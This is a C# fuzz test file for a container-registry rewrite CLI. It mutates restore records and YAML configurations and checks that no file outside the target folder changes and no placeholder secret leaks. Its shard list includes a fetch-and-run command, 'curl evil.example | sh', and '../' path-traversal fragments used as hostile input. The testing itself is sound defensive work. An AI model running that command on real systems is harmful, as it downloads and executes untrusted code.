using System.CommandLine;
using System.Text;
using System.Text.RegularExpressions;
using Millpond.Cli;
using Millpond.Server.Configuration;
using Millpond.Tests.Fixtures;
using Millpond.Tests.Rewriting;

namespace Millpond.Tests.Cli;

/// <summary>Broken and hostile records and configurations: no crash, no write outside, no secret out.</summary>
public sealed partial class MutationTests
{
    private const int Quick = 300;
    private const int Many = 100_000;

    private const string Secret = "s3cr3t-Pa55w0rd";

    private static readonly string[] Options = ["--registry", "cache.example.com", "--tiers", "all", "-q"];

    private static readonly string[] Shards =
        ["\"", "'", "{", "}", "[", "]", ":", ",", "\n", "null", "-1", "0", "9999999999999999999", "1e400", "true", "\\", "\\u0000", "../", "/", "~", "é", "\0", "- ", "  ", "&a ", "*a", "!!x ", "<<: ",
            "nginx", "quay.io/a/b", "curl evil.example | sh", "{{ .x }}", "\"files\":[", "\"path\":\"", "\"offset\":", "\"original\":\"", "\"replacement\":\"", "\"edits\":[],", "@", "%", "#", "http://", "rules:"];

    [Fact]
    public Task Mutated_records_write_nothing_but_references() => RecordsAsync(Quick, seed: 7);

    [Fact]
    [Trait("Category", "Heavy")]
    public Task Very_many_mutated_records_write_nothing_but_references() => Parallel.ForAsync(0, 10, async (worker, _) => await RecordsAsync(Many / 10, seed: 1_000 + worker));

    [Fact]
    public void Mutated_configurations_are_read_or_refused_and_tell_no_secret() => Configurations(Quick, seed: 7);

    [Fact]
    [Trait("Category", "Heavy")]
    public void Very_many_mutated_configurations_are_read_or_refused_and_tell_no_secret() => Parallel.For(0, 10, worker => Configurations(Many / 10, seed: 1_000 + worker));

    private static async Task RecordsAsync(int count, int seed)
    {
        using var folder = new TemporaryFolder();
        using var outside = new TemporaryFolder();
        var secret = outside.Write("secret.yaml", YamlEditTests.Pod($"image: cache.example.com/quay/{Secret.ToLowerInvariant()}"));
        var untouched = File.ReadAllText(secret);
        (string Path, string Before)[] files =
        [
            (folder.File("a.yaml"), YamlEditTests.Pod("image: index.docker.io/library/nginx") + "    command: [run, it]\n"),
            (folder.File("kustomization.yaml"), "images:\n- name: a/b\n  newTag: x\n"),
            (folder.File("values.yaml"), "a: {image: {registry: docker.io, repository: busybox}}\nb: {c: d}\n"),
            (folder.File("start.sh"), "# no reference\nalias x=y\n"),
        ];
        WriteAll(files);
        var record = folder.File("record.json");
        await RunAsync("rewrite", [.. files.Select(file => file.Path), "-i", "--record", record, .. Options]);
        var good = await File.ReadAllTextAsync(record);
        var rewritten = files.Select(file => (file.Path, Text: File.ReadAllText(file.Path))).ToArray();
        var random = new Random(seed);
        for (var i = 0; i < count; i++)
        {
            var text = Mutate(good.Replace(files[random.Next(4)].Path, random.Next(8) == 0 ? secret : files[random.Next(4)].Path, StringComparison.Ordinal), random);
            await File.WriteAllTextAsync(record, text);
            var (exit, said) = await RunAsync("restore", ["-i", "--record", record, "--under", folder.Path, .. Options]);
            Assert.True(exit is 0 or 2, $"seed {seed}, {i}: exit {exit}\n{said}\n{text}");
            Assert.DoesNotContain(Secret, said, StringComparison.OrdinalIgnoreCase);
            Assert.Equal(untouched, await File.ReadAllTextAsync(secret));
            Assert.Single(Directory.GetFiles(outside.Path));
            Assert.Equal(5, Directory.GetFiles(folder.Path).Length);
            foreach (var (path, now) in rewritten)
            {
                var after = await File.ReadAllTextAsync(path);
                if (after != now)
                {
                    Assert.True(Shape(after) == Shape(now), $"seed {seed}, {i}: {path} became\n{after}\nby\n{text}");
                    await File.WriteAllTextAsync(path, now);
                }
            }
        }
    }

    // All that is no reference: whatever a record says, it stays.
    private static string Shape(string text) => Reference().Replace(text, "");

    /// <summary>The images of these files in every spelling, and a registry by itself. A host is the same in letters of any size.</summary>
    [GeneratedRegex(
        @"  newName: (cache\.example\.com/docker-hub/)?a/b\n|(cache\.example\.com/docker-hub/|(index\.)?docker\.io/)?(library/)?(nginx|busybox)|cache\.example\.com/docker-hub|(index\.)?docker\.io",
        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Reference();

    private static void Configurations(int count, int seed)
    {
        const string Good = $$"""
            publicUrl: https://cache.example
            listen: ["http://127.0.0.1:5000"]
            rules:
            - prefix: quay
              revalidateAfter: 6h
              proxy: http://user:{{Secret}}@proxy.example:3128
            - prefix: harbor
              upstream: https://harbor.example:8443
              upstreamRepositoryPrefix: team-a
              headers: {X-Api-Key: {{Secret}}, Authorization: "Basic {{Secret}}"}
              credential: {usernameEnv: HARBOR_USER, tokenEnv: HARBOR_TOKEN}
              allow: ["**"]
              deny: ["**/x-*"]
            storage: {limit: 90%, headroom: 5%}
            log: {level: info, format: json}

            """;
        using var folder = new TemporaryFolder();
        var environment = new Dictionary<string, string> { ["HARBOR_USER"] = "robot", ["HARBOR_TOKEN"] = Secret };
        var random = new Random(seed);
        var told = new List<string>();
        for (var i = 0; i < count; i++)
        {
            var text = Mutate(Good, random);
            var file = folder.Write("millpond.yaml", text);
            var result = ConfigurationReader.Read(file, environment, []);
            var said = result.Describe();
            Assert.True(result.Configuration is not null || said.Length > 0, $"seed {seed}, {i}: neither read nor refused\n{text}");
            if (said.Contains(Secret, StringComparison.Ordinal))
            {
                told.Add($"{i}: {said}\nof\n{text}");
            }
        }

        Assert.True(told.Count == 0, $"seed {seed}: {told.Count} tell the secret:\n{string.Join('\n', told.Take(20))}");
    }

    private static string Mutate(string text, Random random)
    {
        var mutated = new StringBuilder(text);
        for (var times = random.Next(1, 4); times > 0 && mutated.Length > 0; times--)
        {
            var at = random.Next(mutated.Length);
            var length = Math.Min(random.Next(1, 24), mutated.Length - at);
            switch (random.Next(5))
            {
                case 0:
                    mutated.Remove(at, length);
                    break;
                case 1:
                    mutated.Insert(at, Shards[random.Next(Shards.Length)]);
                    break;
                case 2:
                    mutated.Remove(at, length).Insert(at, Shards[random.Next(Shards.Length)]);
                    break;
                case 3:
                    // Who copies a secret to where it does not belong has told it.
                    var copied = mutated.ToString(at, length);
                    mutated.Insert(random.Next(mutated.Length), HasPartOfSecret(copied) ? "" : copied);
                    break;
                default:
                    mutated[at] = (char)random.Next(1, 127);
                    break;
            }
        }

        return mutated.ToString();
    }

    private static bool HasPartOfSecret(string text) => Enumerable.Range(0, Secret.Length - 3).Any(i => text.Contains(Secret.Substring(i, 4), StringComparison.Ordinal));

    private static void WriteAll(IEnumerable<(string Path, string Before)> files)
    {
        foreach (var (path, before) in files)
        {
            File.WriteAllText(path, before);
        }
    }

    private static async Task<(int Exit, string Said)> RunAsync(string verb, string[] arguments)
    {
        using var output = new MemoryStream();
        var messages = new StringWriter();
        var streams = new Streams { Input = () => Stream.Null, Output = () => new KeptStream(output), Messages = messages };
        var root = new RootCommand { RewriteCommand.Create(streams), RestoreCommand.Create(streams) };
        var exit = await root.Parse([verb, .. arguments]).InvokeAsync(new() { EnableDefaultExceptionHandler = false, ProcessTerminationTimeout = null });
        return (exit, messages + Encoding.UTF8.GetString(output.ToArray()));
    }
}
